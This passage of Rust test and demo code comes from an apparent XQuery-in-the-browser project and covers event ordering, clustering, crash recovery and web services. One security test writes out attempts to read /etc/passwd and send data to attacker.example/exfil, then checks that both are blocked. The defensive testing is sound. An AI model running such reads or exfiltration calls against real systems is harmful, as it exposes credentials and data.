    <product><name>Laptop</name><price>999</price></product>\
    <product><name>Mouse</name><price>10</price></product>\
    <product><name>Keyboard</name><price>45</price></product>\
    </products>";

fn main() {
    xquery_only();
    technology_jungle();
    println!("\n--- lines of code (paper §6.3 comparison) ---");
    println!(
        "XQuery-only page:          {:>3} lines",
        samples::count_loc(samples::SHOPPING_CART_XQUERY)
    );
    println!(
        "JS client code alone:      {:>3} lines (plus JSP + SQL on the server)",
        samples::count_loc(samples::SHOPPING_CART_JS)
    );
}

fn xquery_only() {
    println!("=== XQuery-only (§6.3) ===");
    let mut plugin = Plugin::new(PluginConfig::default());
    plugin
        .host
        .borrow_mut()
        .net
        .register("http://shop.example/", 10, |_| Response::ok(PRODUCTS));
    plugin
        .load_page(samples::SHOPPING_CART_XQUERY)
        .expect("page loads");
    println!("catalogue rendered:\n{}", plugin.serialize_page());

    for product in ["Laptop", "Mouse"] {
        let button = plugin.element_by_id(product).expect("buy button");
        plugin.click(button).expect("buy handler");
    }
    println!(
        "\nafter buying Laptop and Mouse:\n{}",
        plugin.serialize_page()
    );
}

fn technology_jungle() {
    println!("\n=== JavaScript + server-rendered markup (the baseline) ===");
    // the "JSP" output: markup the server rendered from the products table
    let server_rendered = format!(
        "<html><body><div>Shopping cart</div><div id=\"shoppingcart\"></div>{}</body></html>",
        PRODUCTS
            .replace("<products>", "")
            .replace("</products>", "")
            .replace("<product>", "<div>")
            .replace("</product>", "</div>")
            .replace("<name>", "")
            .replace("</name>", "<input type=\"button\" value=\"Buy\"/>")
            .replace("<price>", "<span class=\"price\">")
            .replace("</price>", "</span>")
    );
    let store = xqib::dom::store::shared_store();
    let doc = xqib::dom::parse_document(&server_rendered).expect("server page parses");
    let id = store.borrow_mut().add_document(doc, None);
    let mut js = JsEngine::new(store.clone(), id);
    js.run(samples::SHOPPING_CART_JS).expect("JS runs");
    // give the buttons ids the way the JSP did, then click the first
    js.run(
        r#"var res = document.evaluate("//input", document, null, 7, null);
           var i = 0;
           while (i < res.snapshotLength) {
               var b = res.snapshotItem(i);
               b.setAttribute("id", "buy" + i);
               i = i + 1;
           }"#,
    )
    .expect("setup runs");
    let buy = js.global("buy").cloned().expect("buy function");
    let button = {
        let s = store.borrow();
        let d = s.doc(id);
        let n = d
            .descendants_or_self(d.root())
            .into_iter()
            .find(|&n| d.get_attribute(n, None, "id") == Some("buy0"))
            .expect("button found");
        xqib::dom::NodeRef::new(id, n)
    };
    js.dispatch_to(&buy, "onclick", button, 1)
        .expect("buy handler");
    let page = {
        let s = store.borrow();
        xqib::dom::serialize::serialize_document(s.doc(id))
    };
    println!("after one buy:\n{page}");
}
