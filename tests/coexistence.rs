//! §4.1 processing-model tests: "Currently, JavaScript is executed first,
//! then XQuery … The browser determines the order in which events are
//! processed in the same way as the browser serialises the order of event
//! processing in the case that only JavaScript is used."

use std::cell::RefCell;
use std::rc::Rc;

use xqib::core::plugin::{Plugin, PluginConfig};
use xqib::minijs::JsEngine;

const PAGE: &str = r#"<html><head>
<script type="text/javascript">
function jsListener(e) {
    var li = document.createElement("li");
    li.appendChild(document.createTextNode("js"));
    document.getElementById("log").appendChild(li);
}
document.getElementById("btn").addEventListener("onclick", jsListener, false);
</script>
<script type="text/xquery"><![CDATA[
declare updating function local:xq($evt, $obj) {
    insert node <li>xq</li> into //ul[@id="log"]
};
on event "onclick" at //input[@id="btn"] attach listener local:xq
]]></script>
</head><body><input id="btn"/><ul id="log"/></body></html>"#;

/// Builds the co-hosted page: `load_page` runs the XQuery scripts and
/// returns the JS sources, which then run in the minijs engine over the
/// same DOM. Listener firing order is registration order.
fn build() -> Plugin {
    let mut plugin = Plugin::new(PluginConfig::default());
    let engine = Rc::new(RefCell::new(JsEngine::new(
        plugin.store.clone(),
        xqib::dom::DocId(0), // replaced after load
    )));
    let js_sources = plugin.load_page(PAGE).unwrap();
    engine.borrow_mut().doc = plugin.page_doc();
    engine.borrow_mut().run(&js_sources[0]).unwrap();
    for (target, event_type, f) in engine.borrow_mut().take_registrations() {
        let engine = engine.clone();
        plugin.register_external_listener(target, &event_type, move |ev| {
            engine
                .borrow_mut()
                .dispatch_to(&f, &ev.event_type, ev.target, ev.button)
                .expect("JS listener runs");
        });
    }
    plugin
}

#[test]
fn both_listeners_fire_in_registration_order() {
    let mut plugin = build();
    let btn = plugin.element_by_id("btn").unwrap();
    plugin.click(btn).unwrap();
    let page = plugin.serialize_page();
    // XQuery registered during load_page, JS after → XQuery fires first;
    // the browser serialises the order deterministically (§6.2)
    let xq = page.find("<li>xq</li>").expect("xq listener ran");
    let js = page.find("<li>js</li>").expect("js listener ran");
    assert!(xq < js, "registration order preserved: {page}");
}

#[test]
fn dispatch_order_is_deterministic_across_runs() {
    let order = |_: ()| -> String {
        let mut plugin = build();
        let btn = plugin.element_by_id("btn").unwrap();
        plugin.click(btn).unwrap();
        plugin.serialize_page()
    };
    let a = order(());
    let b = order(());
    assert_eq!(a, b, "the loop is fully deterministic");
}

#[test]
fn js_and_xquery_see_each_others_dom_writes() {
    // §6.2: "the Web page serves like a database and both JavaScript and
    // XQuery code can be used in order to access and update that database"
    let mut plugin = Plugin::new(PluginConfig::default());
    let js_sources = plugin
        .load_page(
            r#"<html><head>
            <script type="text/javascript">
            var el = document.createElement("div");
            el.setAttribute("id", "from-js");
            document.body.appendChild(el);
            </script>
            <script type="text/xquery">1</script>
            </head><body/></html>"#,
        )
        .unwrap();
    let mut engine = JsEngine::new(plugin.store.clone(), plugin.page_doc());
    engine.run(&js_sources[0]).unwrap();

    // XQuery reads what JS wrote…
    let out = plugin.eval("count(//div[@id='from-js'])").unwrap();
    assert_eq!(plugin.render(&out), "1");
    // …XQuery writes…
    plugin
        .eval("insert node <span id='from-xq'/> into //div[@id='from-js']")
        .unwrap();
    // …and JS reads what XQuery wrote.
    engine
        .run(
            "var res = document.evaluate(\"//span[@id='from-xq']\", document, null, 7, null);
             alert('' + res.snapshotLength);",
        )
        .unwrap();
    assert_eq!(engine.alerts, vec!["1"]);
}

#[test]
fn js_listener_removal_via_glue() {
    let mut plugin = Plugin::new(PluginConfig::default());
    let js_sources = plugin
        .load_page(
            r#"<html><head>
            <script type="text/javascript">
            var hits = 0;
            function l(e) { hits = hits + 1; }
            var b = document.getElementById("btn");
            b.addEventListener("onclick", l, false);
            </script>
            <script type="text/xquery">1</script>
            </head><body><input id="btn"/></body></html>"#,
        )
        .unwrap();
    let engine = Rc::new(RefCell::new(JsEngine::new(
        plugin.store.clone(),
        plugin.page_doc(),
    )));
    engine.borrow_mut().run(&js_sources[0]).unwrap();
    let regs = engine.borrow_mut().take_registrations();
    assert_eq!(regs.len(), 1);
    let mut handles = Vec::new();
    for (target, event_type, f) in regs {
        let engine2 = engine.clone();
        let h = plugin.register_external_listener(target, &event_type, move |ev| {
            engine2
                .borrow_mut()
                .dispatch_to(&f, &ev.event_type, ev.target, ev.button)
                .unwrap();
        });
        handles.push((target, event_type, h));
    }
    let btn = plugin.element_by_id("btn").unwrap();
    plugin.click(btn).unwrap();
    // JS removes the listener; the glue unbinds it
    engine
        .borrow_mut()
        .run("b.removeEventListener('onclick', l);")
        .unwrap();
    for (target, event_type, _f) in engine.borrow_mut().take_removals() {
        for (t, ty, h) in &handles {
            if *t == target && *ty == event_type {
                plugin.host.borrow_mut().events.remove_listener(*t, ty, *h);
            }
        }
    }
    plugin.click(btn).unwrap();
    let hits = engine.borrow().global("hits").cloned().unwrap();
    assert_eq!(hits.to_js_string(), "1", "second click hit nothing");
}
