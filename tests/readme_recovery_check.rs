//! Keeps the README "crash recovery" example honest: this is the snippet
//! from README.md, verbatim, as a regression test.

use xqib::appserver::{AppServer, DurabilityConfig};
use xqib::storage::VirtualDisk;

#[test]
fn readme_recovery_example() {
    let disk = VirtualDisk::new();
    let mut server = AppServer::new_durable(
        "<library><article id=\"a1\"/></library>",
        disk.clone(),
        DurabilityConfig::default(),
    )
    .unwrap();
    let r = server.handle(
        "/update?xq=insert node <note>draft</note> \
                       into doc('corpus.xml')/library",
    );
    assert_eq!(r.status, 200);

    disk.crash(); // power loss: unsynced tails are torn off, bit rot per plan

    let mut server = AppServer::recover(disk, DurabilityConfig::default()).unwrap();
    assert_eq!(server.metrics.recoveries, 1);
    let r = server.handle("/query?xq=count(doc('corpus.xml')//note)");
    assert_eq!(r.body, "1"); // the journaled update survived the crash
}
