//! Experiment E6: the §4.2.1 security model, end to end.
//!
//! The paper's contract: failed checks yield the **empty sequence** (never
//! an error a page could probe), stale references become useless after
//! navigation, and `fn:doc`/`fn:put` are blocked in the browser.

use xqib::browser::net::Response;
use xqib::core::plugin::{Plugin, PluginConfig};

fn plugin_with_frames() -> Plugin {
    let mut p = Plugin::new(PluginConfig {
        url: "http://www.xqib.org/index.html".to_string(),
        ..Default::default()
    });
    {
        let mut host = p.host.borrow_mut();
        let top = host.browser.top();
        let same = host
            .browser
            .create_frame(top, "samesite", "http://www.xqib.org/frame");
        let cross = host
            .browser
            .create_frame(top, "crosssite", "https://bank.example/account");
        drop(host);
        for (w, content) in [
            (same, "<html><body>public</body></html>"),
            (cross, "<html><body>balance: 1000</body></html>"),
        ] {
            let doc = xqib_dom::parse_document(content).unwrap();
            let id = p.store.borrow_mut().add_document(doc, None);
            p.host.borrow_mut().browser.set_document(w, id);
        }
    }
    p.load_page("<html><body>main</body></html>").unwrap();
    p
}

#[test]
fn same_origin_frame_fully_visible() {
    let mut p = plugin_with_frames();
    let out = p
        .eval("string(browser:top()//window[@name='samesite']/location/href)")
        .unwrap();
    assert_eq!(p.render(&out), "http://www.xqib.org/frame");
    let out = p
        .eval("string(browser:document(browser:top()//window[@name='samesite']))")
        .unwrap();
    assert_eq!(p.render(&out), "public");
}

#[test]
fn cross_origin_frame_reveals_nothing() {
    let mut p = plugin_with_frames();
    // the frame cannot even be found by name…
    let out = p
        .eval("count(browser:top()//window[@name='crosssite'])")
        .unwrap();
    assert_eq!(p.render(&out), "0");
    // …and the anonymous window node has no location, status or document
    let out = p
        .eval("count(browser:top()//window[not(@name)]/location)")
        .unwrap();
    assert_eq!(p.render(&out), "0");
    let out = p
        .eval("count(browser:document(browser:top()//window[not(@name)]))")
        .unwrap();
    assert_eq!(p.render(&out), "0");
}

#[test]
fn accessors_return_empty_not_errors() {
    // probing must not distinguish "denied" from "absent" via errors
    let mut p = plugin_with_frames();
    let out = p
        .eval("string(browser:top()//window[not(@name)]/status)")
        .unwrap();
    assert_eq!(p.render(&out), "");
}

#[test]
fn stale_window_reference_goes_dark_after_navigation() {
    // §4.2.1: "if later the policy no longer allows its use … this node
    // becomes useless"
    let mut p = plugin_with_frames();
    // initially accessible
    let out = p
        .eval("count(browser:top()//window[@name='samesite'])")
        .unwrap();
    assert_eq!(p.render(&out), "1");
    // the frame navigates to another origin
    {
        let mut host = p.host.borrow_mut();
        let w = host.browser.find_by_name("samesite").unwrap();
        host.browser.navigate(w, "https://elsewhere.example/");
    }
    // fresh pulls hide it
    let out = p
        .eval("count(browser:top()//window[@name='samesite'])")
        .unwrap();
    assert_eq!(p.render(&out), "0");
}

#[test]
fn fn_doc_and_fn_put_blocked() {
    let mut p = plugin_with_frames();
    let e = p.eval("doc('file:///etc/passwd')").unwrap_err();
    assert_eq!(e.code, "XQIB0001");
    let e = p
        .eval("put(<x/>, 'http://attacker.example/exfil')")
        .unwrap_err();
    assert_eq!(e.code, "XQIB0001");
}

#[test]
fn fetched_documents_are_reachable_after_fetch() {
    // the browser profile allows exactly what the plug-in provided
    let mut p = plugin_with_frames();
    p.host
        .borrow_mut()
        .net
        .register("http://api.xqib.org/", 5, |_| {
            Response::ok("<data><v>42</v></data>")
        });
    p.eval("browser:httpGet('http://api.xqib.org/data.xml')")
        .unwrap();
    let out = p
        .eval("string(doc('http://api.xqib.org/data.xml')//v)")
        .unwrap();
    assert_eq!(p.render(&out), "42");
}

#[test]
fn window_name_search_respects_policy_for_nested_frames() {
    let mut p = Plugin::new(PluginConfig::default());
    {
        let mut host = p.host.borrow_mut();
        let top = host.browser.top();
        let mid = host
            .browser
            .create_frame(top, "mid", "http://www.xqib.org/a");
        host.browser
            .create_frame(mid, "deep", "http://www.xqib.org/b");
        host.browser
            .create_frame(mid, "foreign", "http://evil.example/");
    }
    p.load_page("<html><body/></html>").unwrap();
    // the paper's `browser:top()//window[@name="myframe"]` deep search
    let out = p
        .eval("count(browser:top()//window[@name='deep'])")
        .unwrap();
    assert_eq!(p.render(&out), "1");
    let out = p
        .eval("count(browser:top()//window[@name='foreign'])")
        .unwrap();
    assert_eq!(p.render(&out), "0");
    let out = p.eval("count(browser:top()//window)").unwrap();
    assert_eq!(p.render(&out), "3", "all frames materialise, opaque or not");
}
