//! Keeps the README "stale event" example honest: this is the snippet
//! from README.md, verbatim, as a regression test.

use xqib::browser::net::FaultPlan;
use xqib::browser::Response;
use xqib::core::plugin::{Plugin, PluginConfig};

#[test]
fn readme_stale_example() {
    let mut plugin = Plugin::new(PluginConfig::default());
    plugin
        .host
        .borrow_mut()
        .net
        .register("http://api.test/", 25, |_req| {
            Response::ok("<quotes><item>ETH 42</item></quotes>")
        });
    plugin
        .load_page(
            r#"<html><head><script type="text/xquery"><![CDATA[
  declare updating function local:onResult($readyState, $result) { () };
  declare updating function local:onStale($evt, $obj) {
    (: $evt/detail is the URL; $evt/payload holds the cached response :)
    replace value of node //span[@id="ticker"]
    with concat(string-join($evt/payload//item, ", "), " (stale)")
  };
  on event "stale" at //body attach listener local:onStale
]]></script></head>
<body><span id="ticker"/></body></html>"#,
        )
        .unwrap();

    plugin
        .eval(r#"browser:httpGet("http://api.test/quotes.xml")"#)
        .unwrap();
    plugin
        .host
        .borrow_mut()
        .net
        .set_fault_plan("api.test", FaultPlan::always_down(7));

    plugin
        .eval(
            r#"on event "sc" behind browser:httpGet("http://api.test/live.xml")
               attach listener local:onResult"#,
        )
        .unwrap();
    plugin.run_until_idle().unwrap();
    assert!(
        plugin.serialize_page().contains("ETH 42 (stale)"),
        "{}",
        plugin.serialize_page()
    );
}
