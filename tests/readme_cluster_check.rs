//! Keeps the README "replicated cluster" example honest: this is the
//! snippet from README.md, verbatim, as a regression test.

use xqib::appserver::{Cluster, ClusterConfig, ClusterOutcome, Submitted};

#[test]
fn readme_cluster_example() {
    // one shard: a leader and two WAL-shipping followers; an update is
    // acked only once one follower holds it durably
    let mut cluster = Cluster::new(ClusterConfig {
        shards: 1,
        followers: 2,
        ack_replicas: 1,
        ..ClusterConfig::default()
    });
    cluster.load("news.xml", "<root/>").unwrap();

    let url = r#"/update?xq=insert node <m id="scoop"/> into doc("news.xml")/*"#;
    let id = match cluster.submit(url, 0) {
        Submitted::Pending(id) => id, // the ack costs a replication round trip
        Submitted::Done(_) => unreachable!(),
    };
    let mut now = 0;
    let done = loop {
        now += 1;
        if let Some(done) = cluster.advance(now).pop() {
            break done;
        }
    };
    assert_eq!(done.id, id);
    assert_eq!(done.outcome, ClusterOutcome::AckedUpdate);
    assert_eq!(done.response.status, 200);

    // reads fan out to in-sync followers, exposing their replication lag
    let read = match cluster.submit("/doc?uri=news.xml", now) {
        Submitted::Done(read) => read,
        Submitted::Pending(_) => unreachable!(),
    };
    assert_eq!(read.outcome, ClusterOutcome::FollowerRead);
    assert!(read.response.header("X-XQIB-Replica-Lag").is_some());

    // the leader dies; the most-caught-up follower is promoted under a
    // new term — and the acked update is still there
    cluster.crash_leader(0, now);
    let (_, _) = cluster.quiesce(now);
    assert!(cluster.has_leader(0));
    assert_ne!(cluster.leader_seat(0), 0);
    assert_eq!(cluster.term(0), 2);
    assert!(cluster.contains("news.xml", "scoop"));
}
