//! Keeps the README "plan cache" example honest: this is the snippet from
//! README.md, verbatim, as a regression test.

use xqib::core::plugin::{Plugin, PluginConfig};

#[test]
fn readme_plan_cache_example() {
    let mut plugin = Plugin::new(PluginConfig::default());
    plugin
        .load_page(
            r#"<html><head></head><body>
  <p>alpha</p><p>beta</p></body></html>"#,
        )
        .unwrap();

    // the first evaluation of a snippet compiles it to a plan; identical
    // snippets afterwards re-execute the cached plan without re-parsing
    for _ in 0..3 {
        let out = plugin.eval("count(//p)").unwrap();
        assert_eq!(plugin.render(&out), "2");
    }

    // browser:planCache() reports the cache counters as an element
    let out = plugin
        .eval(
            r#"string-join((
    string(browser:planCache()/@hits),
    string(browser:planCache()/@misses),
    string(browser:planCache()/@size)), "/")"#,
        )
        .unwrap();
    assert_eq!(plugin.render(&out), "2/2/2");
}
