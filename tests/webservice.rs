//! §3.4 end to end: an XQuery module published as a web service, called
//! from a page in the browser — both remotely (through the virtual
//! network, as the paper's WSDL import implies) and locally (module
//! shipped to the client, the migration idiom).

use std::cell::RefCell;
use std::rc::Rc;

use xqib::appserver::WebServiceHost;
use xqib::browser::net::Response;
use xqib::core::plugin::{Plugin, PluginConfig};
use xqib::dom::QName;
use xqib::xquery::functions::native;
use xqib::xquery::ModuleRegistry;

/// The paper's §3.4 service module, verbatim.
const SERVICE: &str = r#"module namespace ex="www.example.ch" port:2001;
declare option fn:webservice "true";
declare function ex:mul($a,$b) {$a * $b};"#;

/// The paper's §3.4 client listing, minimally adapted (`input/@value`
/// instead of the listing's `input/value` pseudo-child).
const CLIENT_PAGE: &str = r#"<html><head>
<script type="text/xquery"><![CDATA[
import module namespace ab = "www.example.ch"
  at "http://localhost:2001/wsdl";
replace value of node //input[@name="textbox"]/@value
with ab:mul(2, 5)
]]></script></head>
<body><input name="textbox" value=""/></body></html>"#;

#[test]
fn remote_call_through_the_virtual_network() {
    let service = Rc::new(RefCell::new(WebServiceHost::new(SERVICE).unwrap()));
    let mut plugin = Plugin::new(PluginConfig::default());
    // the service listens on its declared port
    {
        let service = service.clone();
        let port = service.borrow().port().unwrap();
        plugin.host.borrow_mut().net.register(
            &format!("http://localhost:{port}"),
            10,
            move |req| {
                let (status, body) = service.borrow_mut().handle(&req.url);
                Response {
                    status,
                    body,
                    content_type: "application/xml".into(),
                }
            },
        );
    }
    // the import's function resolves to a remote-call stub (what a WSDL
    // import generates)
    {
        let host = plugin.host.clone();
        plugin.ctx.register_native(
            QName::ns("www.example.ch", "mul"),
            2,
            native(move |ctx, args| {
                let a = args[0]
                    .first()
                    .map(|i| i.string_value(&ctx.store.borrow()))
                    .unwrap_or_default();
                let b = args[1]
                    .first()
                    .map(|i| i.string_value(&ctx.store.borrow()))
                    .unwrap_or_default();
                let url = format!("http://localhost:2001/call?fn=mul&arg={a}&arg={b}");
                let (resp, _lat) = host.borrow_mut().net.get(&url);
                // <result>10</result> → 10
                let value = resp
                    .body
                    .trim_start_matches("<result>")
                    .trim_end_matches("</result>")
                    .to_string();
                Ok(vec![xqib::xdm::Item::string(value)])
            }),
        );
    }
    plugin.load_page(CLIENT_PAGE).unwrap();
    assert!(
        plugin
            .serialize_page()
            .contains(r#"<input name="textbox" value="10"/>"#),
        "{}",
        plugin.serialize_page()
    );
    assert_eq!(service.borrow().calls, 1, "the remote service was invoked");
}

#[test]
fn local_module_import_is_equivalent() {
    // the same module shipped to the client: import resolves locally,
    // no network at all — the "code moves freely between tiers" claim
    let mut registry = ModuleRegistry::new();
    registry.register_source(SERVICE).unwrap();
    let mut plugin = Plugin::new(PluginConfig {
        modules: registry,
        ..Default::default()
    });
    plugin.load_page(CLIENT_PAGE).unwrap();
    assert!(plugin
        .serialize_page()
        .contains(r#"<input name="textbox" value="10"/>"#));
    assert_eq!(plugin.host.borrow().net.stats.requests, 0, "fully local");
}

#[test]
fn wsdl_document_describes_the_service() {
    let mut service = WebServiceHost::new(SERVICE).unwrap();
    let (status, wsdl) = service.handle("http://localhost:2001/wsdl");
    assert_eq!(status, 200);
    let doc = xqib::dom::parse_document(&wsdl).unwrap();
    let root = doc.children(doc.root())[0];
    assert_eq!(
        doc.get_attribute(root, None, "namespace"),
        Some("www.example.ch")
    );
    assert_eq!(doc.get_attribute(root, None, "port"), Some("2001"));
}
