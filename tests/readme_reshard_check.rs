//! Keeps the README "online membership & resharding" example honest:
//! this is the snippet from README.md, verbatim, as a regression test.

use xqib::appserver::{Cluster, ClusterConfig, Submitted};

#[test]
fn readme_reshard_example() {
    // a two-shard replicated cluster serving live traffic…
    let mut cluster = Cluster::new(ClusterConfig {
        shards: 2,
        followers: 1,
        ack_replicas: 1,
        ..ClusterConfig::default()
    });
    for i in 0..8 {
        cluster.load(&format!("d{i}.xml"), "<root/>").unwrap();
    }
    let url = r#"/update?xq=insert node <m id="keep"/> into doc("d0.xml")/*"#;
    let id = match cluster.submit(url, 0) {
        Submitted::Pending(id) => id,
        Submitted::Done(_) => unreachable!(),
    };
    let mut now = 0;
    loop {
        now += 1;
        if cluster.advance(now).iter().any(|d| d.id == id) {
            break;
        }
    }

    // …grows online: the joining shard enters the ring at a fresh
    // topology epoch and every document the new ring claims for it is
    // migrated live — snapshot copy while the source keeps serving, the
    // WAL tail of updates accepted during the copy forwarded, then an
    // atomic epoch-fenced cutover once the copy is follower-durable
    let owners_before: Vec<usize> = (0..8)
        .map(|i| cluster.owner(&format!("d{i}.xml")))
        .collect();
    let epoch_before = cluster.epoch();
    cluster.add_shard(now);
    let (now, _) = cluster.quiesce(now);
    assert!(cluster.epoch() > epoch_before);
    assert_eq!(cluster.migrations_in_flight(), 0);
    assert!(cluster.reshard_stats().docs_moved > 0);

    // a client holding a stale route hits the cutover fence — 421 plus
    // the fresh owner and epoch — re-resolves, and retries
    let moved = (0..8)
        .find(|&i| cluster.owner(&format!("d{i}.xml")) != owners_before[i])
        .unwrap();
    let stale = match cluster.serve_at(owners_before[moved], &format!("/doc?uri=d{moved}.xml"), now)
    {
        Submitted::Done(d) => d,
        Submitted::Pending(_) => unreachable!(),
    };
    assert_eq!(stale.response.status, 421);
    let fresh: usize = stale
        .response
        .header("X-XQIB-Owner")
        .unwrap()
        .parse()
        .unwrap();
    let ok = match cluster.serve_at(fresh, &format!("/doc?uri=d{moved}.xml"), now) {
        Submitted::Done(d) => d,
        Submitted::Pending(_) => unreachable!(),
    };
    assert_eq!(ok.response.status, 200);

    // a hot ring can be reseeded in place (same members, new salt), and
    // a shard can leave: it drains every homed document, then retires
    cluster.rebalance(7, now);
    assert!(cluster.decommission_shard(0, now));
    let (_, _) = cluster.quiesce(now);
    assert!(cluster.is_retired(0));
    assert_eq!(cluster.reshard_stats().drains, 1);
    assert!(cluster.contains("d0.xml", "keep")); // acked bytes survived it all
}
