//! End-to-end Figure 2 scenario: Elsevier Reference 2.0, server-rendered
//! vs migrated-to-client deployments, with the caching effect the paper
//! claims ("most user requests can be processed without any interaction
//! with the Elsevier server").

use std::cell::RefCell;
use std::rc::Rc;

use xqib::appserver::corpus::{article_ids, generate_corpus, CorpusSpec};
use xqib::appserver::{migrate, AppServer};
use xqib::browser::net::Response;
use xqib::core::plugin::{Plugin, PluginConfig};

fn corpus_spec() -> CorpusSpec {
    CorpusSpec::default()
}

/// A browse session: the index plus K article views.
fn session_articles(k: usize) -> Vec<String> {
    let ids = article_ids(&corpus_spec());
    (0..k).map(|i| ids[i % ids.len()].clone()).collect()
}

#[test]
fn server_rendered_deployment_costs_one_eval_per_interaction() {
    let xml = generate_corpus(&corpus_spec());
    let mut server = AppServer::new(&xml).unwrap();
    let k = 10;
    let r = server.handle("/index");
    assert_eq!(r.status, 200);
    for id in session_articles(k) {
        let r = server.handle(&format!("/page?article={id}"));
        assert_eq!(r.status, 200);
        assert!(r.body.contains("<table id=\"refs\">"));
    }
    assert_eq!(server.metrics.requests as usize, k + 1);
    assert_eq!(server.metrics.xquery_evals as usize, k + 1);
    assert!(server.metrics.bytes_out > 0);
}

/// Wires the app server into a plug-in's virtual network.
fn plugin_with_server() -> (Plugin, Rc<RefCell<AppServer>>) {
    let xml = generate_corpus(&corpus_spec());
    let server = Rc::new(RefCell::new(AppServer::new(&xml).unwrap()));
    let plugin = Plugin::new(PluginConfig {
        url: format!("{}/app", migrate::SERVER_BASE),
        ..Default::default()
    });
    {
        let server = server.clone();
        plugin.host.borrow_mut().net.register(
            migrate::SERVER_BASE,
            40, // simulated WAN round trip
            move |req| {
                let r = server.borrow_mut().handle(&req.url);
                Response {
                    status: r.status,
                    body: r.body,
                    content_type: "application/xml".into(),
                }
            },
        );
    }
    (plugin, server)
}

#[test]
fn migrated_deployment_renders_in_the_browser() {
    let (mut plugin, server) = plugin_with_server();
    plugin.load_page(&migrate::migrated_page()).unwrap();
    plugin.eval(&migrate::interaction("j0-v0-i0-a0")).unwrap();
    let page = plugin.serialize_page();
    assert!(page.contains("<table id=\"refs\">"), "{page}");
    assert!(page.contains("(j0-v0-i0-a0)"));
    assert!(page.contains("<span id=\"refcount\">5</span>"));
    // the server only served the document — it evaluated no XQuery
    assert_eq!(server.borrow().metrics.xquery_evals, 0);
}

#[test]
fn client_cache_eliminates_repeat_round_trips() {
    let (mut plugin, server) = plugin_with_server();
    plugin.load_page(&migrate::migrated_page()).unwrap();
    let k = 10;
    for id in session_articles(k) {
        plugin.eval(&migrate::interaction(&id)).unwrap();
    }
    // one /doc fetch for the whole session; everything else came from the
    // browser-side document cache
    assert_eq!(server.borrow().metrics.requests, 1);
    assert_eq!(server.borrow().metrics.xquery_evals, 0);
    let migrated_bytes = server.borrow().metrics.bytes_out;

    // compare with the server-rendered deployment on the same session
    let xml = generate_corpus(&corpus_spec());
    let mut baseline = AppServer::new(&xml).unwrap();
    baseline.handle("/index");
    for id in session_articles(k) {
        baseline.handle(&format!("/page?article={id}"));
    }
    assert!(
        baseline.metrics.requests > server.borrow().metrics.requests,
        "migration reduces request count ({} vs {})",
        baseline.metrics.requests,
        server.borrow().metrics.requests
    );
    // for long sessions the one-time whole-document transfer amortises:
    // the server-rendered deployment keeps paying per interaction
    let per_interaction = baseline.metrics.bytes_out / (k as u64 + 1);
    assert!(per_interaction > 0);
    // sanity: a whole corpus is bigger than one page, so short sessions
    // favour server rendering on bytes — the crossover the E2 bench plots
    assert!(migrated_bytes > per_interaction);
}

#[test]
fn migrated_page_content_matches_server_rendering() {
    // behavioural equivalence: the client-side render produces the same
    // article content the server-side render did
    let (mut plugin, _server) = plugin_with_server();
    plugin.load_page(&migrate::migrated_page()).unwrap();
    plugin.eval(&migrate::interaction("j1-v2-i1-a3")).unwrap();
    let client_page = plugin.serialize_page();

    let xml = generate_corpus(&corpus_spec());
    let mut server = AppServer::new(&xml).unwrap();
    let server_page = server.handle("/page?article=j1-v2-i1-a3").body;

    // both contain the identical reference table
    let extract_table = |s: &str| -> String {
        let start = s.find("<table id=\"refs\">").expect("table present");
        let end = s[start..].find("</table>").expect("table closed") + start;
        s[start..end + 8].to_string()
    };
    assert_eq!(extract_table(&client_page), extract_table(&server_page));
}

#[test]
fn index_view_works_client_side_too() {
    let (mut plugin, _server) = plugin_with_server();
    plugin.load_page(&migrate::migrated_page()).unwrap();
    plugin.eval("local:showIndex()").unwrap();
    let page = plugin.serialize_page();
    assert!(page.contains("<ul id=\"journals\">"));
    assert_eq!(page.matches("<li ").count(), 2);
}
