//! Keeps the README "overload" example honest: this is the snippet from
//! README.md, verbatim, as a regression test.

use xqib::appserver::{
    generate_corpus, Admission, AppServer, CorpusSpec, GovernedServer, GovernorConfig,
};

#[test]
fn readme_overload_example() {
    let corpus = generate_corpus(&CorpusSpec::default());
    let server = AppServer::new(&corpus).unwrap();
    let mut g = GovernedServer::new(server, GovernorConfig::default());

    // a flash crowd: 100 page hits in the same virtual millisecond
    let mut shed = 0;
    for _ in 0..100 {
        if let Admission::Rejected(c) = g.submit("/page?article=j0-v0-i0-a0", 0) {
            assert_eq!(c.response.status, 503); // honest refusal...
            assert_eq!(c.response.header("Retry-After"), Some("1")); // ...with advice
            shed += 1;
        }
    }
    assert_eq!(shed, 36); // the 64-slot render queue cannot hold 100
    g.drain(); // the backlog is served — fresh or degraded — in virtual time

    // once the burst has passed, the next request sails through untouched
    g.submit("/page?article=j0-v0-i0-a0", 60_000);
    let done = g.run_until(60_000);
    assert_eq!(done[0].response.status, 200);
    assert!(done[0].response.header("X-XQIB-Degraded").is_none()); // fresh
}
