//! End-to-end Figure 3 scenario: the Google-Maps/Weather mash-up.
//! JavaScript (minijs) and XQuery co-exist on one page, listen to the
//! *same* click event on the *same* DOM, and the XQuery side integrates
//! several REST services horizontally.

use std::cell::RefCell;
use std::rc::Rc;

use xqib::browser::net::Response;
use xqib::core::plugin::{Plugin, PluginConfig};
use xqib::minijs::JsEngine;

const MASHUP_PAGE: &str = r#"<html><head>
<script type="text/javascript">
function onSearch(e) {
    var box = document.getElementById("searchbox");
    var query = box.getAttribute("value");
    var map = document.createElement("div");
    map.setAttribute("id", "map");
    map.setAttribute("data-location", query);
    var text = document.createTextNode("[map of " + query + "]");
    map.appendChild(text);
    document.getElementById("mappanel").appendChild(map);
}
var btn = document.getElementById("searchbutton");
btn.addEventListener("onclick", onSearch, false);
</script>
<script type="text/xqueryp"><![CDATA[
declare variable $services := ("http://weather-a.example", "http://weather-b.example", "http://weather-c.example");
declare updating function local:onSearch($evt, $obj) {
  let $loc := string(//input[@id="searchbox"]/@value)
  return {
    delete node //div[@id="weatherpanel"]/*;
    for $s in $services
    return
      insert node
        <div class="forecast">{
          data(browser:httpGet(concat($s, "/api?q=", $loc))//summary)
        }</div>
      into //div[@id="weatherpanel"];
    insert node
      <div id="cams">{
        for $cam in browser:httpGet(concat("http://webcams.example/find?q=", $loc))//cam
        return <img src="{data($cam/@url)}"/>
      }</div>
      into //div[@id="weatherpanel"];
  }
};
on event "onclick" at //input[@id="searchbutton"] attach listener local:onSearch
]]></script>
</head><body>
<input id="searchbox" type="text" value=""/>
<input id="searchbutton" type="button" value="Search"/>
<div id="mappanel"/>
<div id="weatherpanel"/>
</body></html>"#;

fn setup() -> (Plugin, Rc<RefCell<JsEngine>>) {
